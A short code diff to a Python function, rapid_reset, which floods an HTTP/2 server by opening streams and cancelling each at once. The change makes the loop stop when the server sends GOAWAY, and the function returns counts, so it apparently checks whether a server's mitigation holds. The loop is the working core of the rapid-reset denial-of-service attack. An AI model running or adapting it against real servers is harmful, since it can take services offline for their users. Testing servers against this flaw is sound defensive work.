@@ -164,10 +164,15 @@ def rapid_reset(address: str, streams: int, seconds: float) -> tuple[int, int | 
     open_ = True
     with sock:
         sock.sendall(conn.data_to_send())
-        while open_ and sent < streams and time.monotonic() - started < seconds:
+        goaway_seen = False
+        while open_ and not goaway_seen and sent < streams and time.monotonic() - started < seconds:
             for _ in range(100):
                 stream_id = conn.get_next_available_stream_id()
-                conn.send_headers(stream_id, HEADERS)
+                try:
+                    conn.send_headers(stream_id, HEADERS)
+                except h2.exceptions.ProtocolError:  # the server's GOAWAY came in: h2 is closed
+                    goaway_seen = True
+                    break
                 conn.reset_stream(stream_id, ErrorCodes.CANCEL)
                 sent += 1
             try:
